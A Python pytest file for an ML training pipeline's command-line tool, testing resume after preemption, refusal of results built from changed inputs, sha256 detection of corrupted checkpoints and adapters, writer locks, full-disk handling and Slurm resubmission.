def test_sigterm_during_key_learning_resumes_with_the_cached_keys_to_the_same_adapter(
        stopped: Run, tiny_finished: Run, capsys) -> None:
    assert (stopped.state() / "keys.safetensors").is_file()
    out, _ = resume_to_the_uninterrupted_adapter(stopped, capsys, tiny_finished, 1)
    assert "learning DTKR keys" not in out, "the cached keys, verified, were reused"


def test_a_task_preempted_twice_resumes_each_time_and_ends_with_the_same_adapter(
        prepared_copy: Run, tiny_finished: Run, capsys, monkeypatch) -> None:
    run = prepared_copy
    for step, saved, resumed in ((0, 1, None), (2, 3, 1)):
        with monkeypatch.context() as m:
            fault_hooks.install(m.setattr, "mid-step", signal.SIGUSR1, step)
            code, out, _ = call(capsys, *run.argv("train", "--task", "0"))
        assert code == EXIT_PREEMPTED, out
        assert f"checkpoint at step {saved} saved; exiting 75 (preemption signal: requeue to resume)" in out
        assert resumed is None or f"resumed task 0 from step {resumed}/4" in out
    resume_to_the_uninterrupted_adapter(run, capsys, tiny_finished, 3)


def test_a_tampered_keys_cache_in_train_state_is_learned_again_not_used(stopped: Run, tiny_finished: Run,
                                                                         capsys) -> None:
    flip_byte(stopped.state() / "keys.safetensors")
    out, _ = resume_to_the_uninterrupted_adapter(stopped, capsys, tiny_finished, 1)
    assert f"warning: {stopped.state() / 'keys.safetensors'} does not match the sha256 recorded" in out
    assert "learning DTKR keys of task 0" in out


def test_a_tampered_checkpoint_is_never_loaded_and_training_restarts_to_the_same_adapter(
        stopped: Run, tiny_finished: Run, capsys) -> None:
    model = next((stopped.state() / checkpoints.tag(1)).glob("*model_states.pt"))
    flip_byte(model)
    _, err = resume_to_the_uninterrupted_adapter(stopped, capsys, tiny_finished, None)
    assert f"{model} does not match the sha256" in err and "training this task from step 0" in err


# ---- resume with other inputs: refused, or discarded with --restart -------------------------------------


def test_resume_after_a_config_change_is_refused_naming_the_key_and_restart_discards(stopped: Run, capsys) -> None:
    state_before, config_before = tree(stopped.state()), stopped.layout.config.read_bytes()
    code, _, err = call(capsys, *stopped.argv("train", "--task", "0", "methods.slm.lr=0.002"))
    assert_user_error(code, err, str(stopped.state()), "was started from other inputs",
                      "methods.slm.lr: 0.005 -> 0.002", "--restart")
    assert tree(stopped.state()) == state_before and stopped.layout.config.read_bytes() == config_before
    assert not (stopped.task_dir(0) / "DONE").exists()
    code, out, err = call(capsys, *stopped.argv("train", "--task", "0", "methods.slm.lr=0.002", "--restart"))
    assert code == 0, err
    assert f"train: --restart: discarding {stopped.task_dir(0)} ({stopped.state()} (checkpoints and cached keys) " \
           "was started from other inputs: the config changed (methods.slm.lr: 0.005 -> 0.002))" in out
    assert artifacts.read_done(stopped.task_dir(0))["settings"]["train"]["lr"] == 0.002


def test_resume_after_the_data_changed_is_refused_naming_the_data(stopped: Run, capsys) -> None:
    assert cli.main(stopped.argv("prepare", "data.seed=1")) == 0  # another split of the same tasks
    state_before = tree(stopped.state())
    code, _, err = call(capsys, *stopped.argv("train", "--task", "0", "data.seed=1"))
    assert_user_error(code, err, str(stopped.state()), f"the prepared data ({stopped.layout.data}) changed")
    assert tree(stopped.state()) == state_before and not (stopped.task_dir(0) / "DONE").exists()


@pytest.mark.parametrize("damage", ["truncated", "not-utf8", "missing"])
def test_a_train_state_whose_inputs_record_is_damaged_is_refused_naming_it(stopped: Run, capsys,
                                                                          damage: str) -> None:
    record = stopped.state() / "INPUTS.json"
    if damage == "truncated":
        record.write_bytes(record.read_bytes()[:20])
    elif damage == "not-utf8":
        record.write_bytes(b'{"inputs": "caf\xe9"}')
    else:
        record.unlink()  # as an older slm left it: checkpoints without a record of their inputs
    state_before = tree(stopped.state())
    code, _, err = call(capsys, *stopped.argv("train", "--task", "0"))
    expected = "records no inputs (INPUTS.json is missing" if damage == "missing" else f"{record} cannot be read"
    assert_user_error(code, err, expected, "--restart")
    assert tree(stopped.state()) == state_before


def test_resume_after_an_earlier_task_changed_is_refused_naming_that_task(finished_copy: Run, capsys,
                                                                        monkeypatch) -> None:
    run = finished_copy
    shutil.rmtree(run.task_dir(1))
    with monkeypatch.context() as m:
        fault_hooks.install(m.setattr, "mid-step", signal.SIGTERM, 0)
        assert cli.main(run.argv("train", "--task", "1")) == EXIT_TERMINATED
    # Task 0 is replaced by another valid result (retrained elsewhere, copied in): its DONE is intact.
    from safetensors.torch import save_file

    adapter = load_file(str(run.task_dir(0) / "adapter.safetensors"))
    save_file({k: v + 1 for k, v in adapter.items()}, str(run.task_dir(0) / "adapter.safetensors"),
              metadata=dict(safe_metadata(run.task_dir(0) / "adapter.safetensors")))
    marker = artifacts.read_done(run.task_dir(0))
    artifacts.write_done(run.task_dir(0), "train", inputs=marker["inputs"], files=list(marker["outputs"]),
                         **{k: v for k, v in marker.items() if k not in ("stage", "format", "outputs", "inputs")})
    state_before = tree(run.state(1))
    code, _, err = call(capsys, *run.argv("train", "--task", "1"))
    assert_user_error(code, err, str(run.state(1)), "task 0 (sentiment) changed")
    assert tree(run.state(1)) == state_before


def safe_metadata(path: Path) -> dict[str, str]:
    from safetensors import safe_open

    with safe_open(str(path), framework="pt") as f:
        return f.metadata() or {}


# ---- concurrent writers in the stages -----------------------------------------------------------------------


@pytest.mark.parametrize("command", [["run"], ["train", "--task", "0"], ["index"], ["eval", "--after", "0"]],
                         ids=["run", "train", "index", "eval"])
def test_a_writer_stage_beside_a_submitted_job_fails_at_once_naming_it(finished_copy: Run, capsys,
                                                                       command: list[str]) -> None:
    run = finished_copy
    before = results(run.out)
    holder = spawn(HOLDER, str(locks.lock_path(run.layout)), env={"SLURM_JOB_ID": "4242"})
    try:
        start = time.monotonic()
        code, _, err = call(capsys, *run.argv(*command))
        elapsed = time.monotonic() - start
    finally:
        kill(holder)
    assert_user_error(code, err, f"{run.layout.root} (method slm) is in use by pid {holder.pid}", "Slurm job 4242",
                      str(locks.lock_path(run.layout)), "scancel 4242")
    assert elapsed < 15, "fails at once, before any model is loaded"
    assert results(run.out) == before and not temporaries(run.out)


def test_report_and_status_read_finished_results_beside_a_writer(finished_copy: Run, capsys) -> None:
    run = finished_copy
    holder = spawn(HOLDER, str(locks.lock_path(run.layout)))
    try:
        assert call(capsys, *run.argv("report"))[0] == 0
        code, out, _ = call(capsys, *run.argv("status"))
    finally:
        kill(holder)
    assert code == 0 and f"output folder is being written by pid {holder.pid}" in out


@pytest.mark.slow
def test_a_second_train_of_a_task_in_training_fails_at_once_and_leaves_its_train_state_alone(
        prepared_copy: Run, capsys) -> None:
    run, long = prepared_copy, ["train.max_steps=400", "train.save_every=5"]
    first = subprocess.Popen([sys.executable, "-m", "pipeline.cli", *run.argv("train", "--task", "0", *long)],
                             cwd=REPO, env=child_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 300
        while not any(run.state().glob("step-*/COMPLETE")) and first.poll() is None:
            assert time.monotonic() < deadline, "no first checkpoint"
            time.sleep(0.2)
        record = tree(run.state())["INPUTS.json"] if (run.state() / "INPUTS.json").is_file() else None
        code, _, err = call(capsys, *run.argv("train", "--task", "0", *long))
        assert_user_error(code, err, f"is in use by pid {first.pid}", str(locks.lock_path(run.layout)))
        assert first.poll() is None, "the first writer runs on"
    finally:
        first.send_signal(signal.SIGTERM)
        out, _ = first.communicate(timeout=300)
    assert first.returncode == EXIT_TERMINATED, out[-2000:]
    assert tree(run.state()).get("INPUTS.json") == record
    assert checkpoints.verify_checkpoint(checkpoints.list_tags(run.state())[0]) is None
    assert not (run.task_dir(0) / "DONE").exists()


# ---- full disk, leftovers, prepare's config ----------------------------------------------------------------


def test_a_full_disk_while_saving_the_keys_leaves_no_partial_file_and_the_rerun_resumes(
        prepared_copy: Run, tiny_finished: Run, capsys, monkeypatch) -> None:
    run = prepared_copy
    import pipeline.adapters as adapters

    save_file = adapters.save_file

    def full(tensors: dict, filename: str, metadata: dict | None = None) -> None:
        if "train_state" in Path(filename).parts:  # the keys cache, before training: there was space
            return save_file(tensors, filename, metadata=metadata)
        Path(filename).write_bytes(b"half a file")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))  # a failed write() names no file

    with monkeypatch.context() as m:
        m.setattr(adapters, "save_file", full)  # the task's keys; the adapter before them is saved
        code, _, err = call(capsys, *run.argv("train", "--task", "0"))
    keys = run.task_dir(0) / "keys.safetensors"
    assert_user_error(code, err, f"no space left on the device (or quota exceeded): {keys}", "df -h")
    assert not keys.exists() and not (run.task_dir(0) / "DONE").exists() and not temporaries(run.out)
    resume_to_the_uninterrupted_adapter(run, capsys, tiny_finished, 4)


def test_a_full_disk_while_writing_an_eval_row_leaves_no_row_and_the_others_unchanged(
        finished_copy: Run, capsys, monkeypatch) -> None:
    run = finished_copy
    row = run.layout.eval_row(1)
    row.unlink()
    before = results(run.out)
    from pipeline.stages import evaluate

    def full(path: Path, obj: Any) -> None:
        with atomic_path(path) as tmp:
            tmp.write_text('{"after": 1, "sco')
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(evaluate, "atomic_write_json", full)
    code, _, err = call(capsys, *run.argv("eval", "--after", "1"))
    assert_user_error(code, err, f"no space left on the device (or quota exceeded): {row}")
    assert not row.exists() and results(run.out) == before and not temporaries(run.out)


def test_a_writer_stage_removes_what_killed_writers_left_but_not_a_live_writers_temporary(
        finished_copy: Run, capsys) -> None:
    run = finished_copy
    dead = run.task_dir(0) / ".adapter.safetensors.k1ll3d.tmp"
    dead.mkdir()
    (dead / ".owner").touch()  # its writer died: nobody holds the lock on it
    (dead / "adapter.safetensors").write_bytes(b"half")
    writer = ("import sys, time\nfrom pathlib import Path\nfrom pipeline.state.artifacts import atomic_path\n"
              "with atomic_path(Path(sys.argv[1])) as tmp:\n    tmp.write_text('half')\n"
              "    print('ready', flush=True)\n    time.sleep(120)\n")
    live = spawn(writer, str(run.layout.eval / "notes.json"))
    try:
        code, out, _ = call(capsys, *run.argv("index"))
        assert code == 0 and "already up to date" in out
        assert f"removed {dead}, left by a killed writer" in out and not dead.exists()
        assert len(list(run.layout.eval.glob(".notes.json.*.tmp"))) == 1, "a live writer's temporary stays"
    finally:
        kill(live)


def test_a_prepare_that_fails_its_data_checks_leaves_config_yaml_as_it_was(earlier, capsys, tmp_path: Path) -> None:
    config = RunLayout.of(load_config(earlier())).config
    before = config.read_bytes()
    folder = _cl_folder(tmp_path, labels=None)
    news = {"name": "news", "source": {"type": "cl_benchmark", "path": str(folder)}}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news])))
    assert_user_error(code, err, "labels.json")
    assert config.read_bytes() == before, "config.yaml describes the config whose data is on disk"


# ---- readers: eval, generate, index, report, train --check refuse results of other inputs ------------------

GENERATE = ["generate", "Classify the sentiment of this review.", "--input", "I love it", "--max-new-tokens", "2"]
READERS: dict[str, list[str]] = {"eval": ["eval", "--after", "1"], "generate": GENERATE, "index": ["index"],
                                 "report": ["report"], "train-check": ["train", "--task", "0", "--check"],
                                 "train-next": ["train", "--task", "1"]}


def reader_argv(run: Run, reader: str, overrides: list[str]) -> list[str]:
    command, *args = READERS[reader]
    extra = sum((["--set", o] for o in overrides), []) if command == "generate" else overrides
    return run.argv(command, *args, *extra)


CHANGES: dict[str, tuple[list[str], str]] = {
    "config": (["methods.slm.lr=0.002"], "the config changed (methods.slm.lr: 0.005 -> 0.002)"),
    "split": (["data.test_ratio=0.5"], "the prepared data ({data}) changed"),
}


@pytest.fixture(scope="module", params=sorted(CHANGES))
def changed(request, tmp_path_factory: pytest.TempPathFactory, tiny_finished: Run) -> tuple[Run, list[str], str]:
    """A finished run whose config or split changed afterwards (the split: prepared again)."""
    run = copy_run(tiny_finished, tmp_path_factory.mktemp(f"changed-{request.param}"))
    overrides, message = CHANGES[request.param]
    if request.param == "split":
        assert cli.main(run.argv("prepare", *overrides)) == 0
    return run, overrides, message.format(data=run.layout.data)


@pytest.mark.parametrize("reader", sorted(READERS))
def test_every_reader_refuses_results_whose_inputs_changed_naming_the_change_and_the_rerun(
        changed: tuple[Run, list[str], str], capsys, reader: str) -> None:
    run, overrides, message = changed
    before = results(run.out)
    code, out, err = call(capsys, *reader_argv(run, reader, overrides))
    assert_user_error(code, err, f"task 0 (sentiment): {run.task_dir(0) / 'DONE'} was built from other inputs",
                      message, "slm train --method slm --task 0 --restart")
    assert "answer:" not in out and "eval after" not in out, "nothing was scored or generated"
    assert results(run.out) == before


def test_report_refuses_a_row_scored_with_other_eval_settings_naming_the_row(finished_copy: Run, capsys) -> None:
    run = finished_copy
    before = results(run.out)
    code, _, err = call(capsys, *run.argv("report", "eval.max_new_tokens=3"))
    assert_user_error(code, err, f"row 0 of the matrix ({run.layout.eval_row(0)}) was scored from other inputs",
                      "eval.max_new_tokens: 2 -> 3", "slm eval --after 0 --method slm")
    assert results(run.out) == before


@pytest.mark.parametrize(("target", "damage", "reader", "rerun"), [
    ("adapter", flip_byte, "eval", "slm train --method slm --task 0 --restart"),
    ("adapter", lambda p: p.write_bytes(p.read_bytes()[:100]), "generate", "slm train --method slm --task 0 --restart"),
    ("keys", flip_byte, "index", "slm train --method slm --task 0 --restart"),
    ("index", flip_byte, "eval", "slm index --method slm"),
], ids=["adapter-modified-eval", "adapter-truncated-generate", "keys-modified-index", "index-modified-eval"])
def test_a_tampered_result_is_refused_by_its_reader_naming_the_file(finished_copy: Run, capsys, target: str,
                                                                   damage: Callable[[Path], Any], reader: str,
                                                                   rerun: str) -> None:
    run = finished_copy
    path = {"adapter": run.task_dir(0) / "adapter.safetensors", "keys": run.task_dir(0) / "keys.safetensors",
            "index": run.layout.index / "keys.faiss"}[target]
    damage(path)
    before = results(run.out)
    code, out, err = call(capsys, *reader_argv(run, reader, []))
    assert_user_error(code, err, f"{path} changed after it was written (sha256 differs from", rerun)
    assert "answer:" not in out and "eval after" not in out
    assert results(run.out) == before


@pytest.mark.slow
def test_run_restart_repairs_a_tampered_adapter_and_everything_scored_with_it(finished_copy: Run, tiny_finished: Run,
                                                                             capsys) -> None:
    run = finished_copy
    flip_byte(run.task_dir(0) / "adapter.safetensors")
    code, out, err = call(capsys, *run.argv("run", "--restart"))
    assert code == 0, err
    assert "train: --restart: discarding the result of task 0 (sentiment)" in out
    for i in (0, 1):
        assert_same_tensors(tensors(run.task_dir(i)), tensors(tiny_finished.task_dir(i)))
    assert call(capsys, *run.argv("report"))[0] == 0, "every row matches the tasks on disk again"


@pytest.mark.parametrize("damage", ["truncated", "not-utf8", "format-2"])
def test_a_damaged_eval_row_is_refused_by_report_naming_it(finished_copy: Run, capsys, damage: str) -> None:
    row = finished_copy.layout.eval_row(0)
    if damage == "truncated":
        row.write_bytes(row.read_bytes()[:50])
    elif damage == "not-utf8":
        row.write_bytes(row.read_bytes().replace(b'"scores"', b'"sc\xf6res"', 1))
    else:
        row.write_text(json.dumps({**json.loads(row.read_text()), "format": 2}))
    before = results(finished_copy.out)
    code, _, err = call(capsys, *finished_copy.argv("report"))
    assert_user_error(code, err, str(row), "slm eval --after 0 --method slm")
    assert results(finished_copy.out) == before, "metrics.json and report.md were not rewritten"


def test_eval_scores_a_torn_row_again(finished_copy: Run, capsys) -> None:
    row = finished_copy.layout.eval_row(0)
    row.write_bytes(row.read_bytes()[:50])
    code, out, _ = call(capsys, *finished_copy.argv("eval", "--after", "0"))
    assert code == 0 and f"{row} cannot be read" in out and f"eval: row 0 -> {row}" in out
    assert json.loads(row.read_text())["after"] == 0


@pytest.mark.parametrize("fmt", [0, 2])
def test_a_done_marker_of_another_format_is_refused_with_the_rerun(finished_copy: Run, capsys, fmt: int) -> None:
    done = finished_copy.task_dir(0) / "DONE"
    done.write_text(json.dumps({**json.loads(done.read_text()), "format": fmt}))
    before = results(finished_copy.out)
    for reader in ("eval", "train-check", "train-next"):
        code, _, err = call(capsys, *reader_argv(finished_copy, reader, []))
        assert_user_error(code, err, f"{done} was written in format {fmt}", "this one reads format 1",
                          "slm train --method slm --task 0 --restart")
    assert results(finished_copy.out) == before


def test_a_torn_task_done_counts_as_unfinished_and_retraining_gives_the_same_result(
        finished_copy: Run, tiny_finished: Run, capsys) -> None:
    run = finished_copy
    done = run.task_dir(1) / "DONE"
    done.write_bytes(done.read_bytes()[:40] + b"\xff")
    code, _, err = call(capsys, *run.argv("eval", "--after", "1"))
    assert_user_error(code, err, "only 1 task(s) are DONE", "slm train --task 1")
    assert call(capsys, *run.argv("train", "--task", "1"))[0] == 0
    assert_same_tensors(tensors(run.task_dir(1)), tensors(tiny_finished.task_dir(1)))
    assert call(capsys, *run.argv("index"))[0] == 0, "the index follows the retrained task"


# ---- the Slurm skip: a DONE counts only if `slm train --check` accepts it ---------------------------------------


def test_a_resubmitted_array_task_with_a_stale_done_fails_with_the_message_and_trains_nothing(
        finished_copy: Run, tmp_path: Path) -> None:
    from pipeline import slurm

    run = finished_copy
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, body in (("srun", 'echo "$*" >> "$FAKE_DIR/srun.log"\n'), ("scontrol", "exit 0\n"),
                       ("squeue", "exit 0\n")):
        (bin_dir / name).write_text(f"#!/bin/bash\n{body}")
        (bin_dir / name).chmod(0o755)
    env = {**child_env(), "PATH": f"{bin_dir}:{os.environ['PATH']}", "FAKE_DIR": str(tmp_path),
           "SLURM_ARRAY_JOB_ID": "100", "SLURM_ARRAY_TASK_ID": "1", "SLURM_JOB_ID": "101", "SLURM_NNODES": "1",
           "SLURM_JOB_NODELIST": "node1", "SLURM_RESTART_COUNT": "0"}
    for lr, code, said in ((0.005, 0, "task 1 is already DONE"), (0.002, 2, "methods.slm.lr: 0.005 -> 0.002")):
        cfg = load_config(run.yaml, [f"methods.slm.lr={lr}"])  # `slm submit` after an edit renders this config
        layout = RunLayout.of(cfg)
        slurm.config_path(layout).parent.mkdir(parents=True, exist_ok=True)
        slurm.config_path(layout).write_text(slurm.resolved_config_yaml(cfg, layout))
        script = tmp_path / "train.sbatch"
        script.write_text(slurm.render_sbatch(cfg, layout, "train", sys.executable))
        done = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True, timeout=300)
        assert done.returncode == code, done.stdout + done.stderr
        assert said in done.stdout + done.stderr
        assert not (tmp_path / "srun.log").exists(), "no training was launched"
    assert "error: task 0 (sentiment)" in done.stderr and "--restart" in done.stderr  # the first stale one
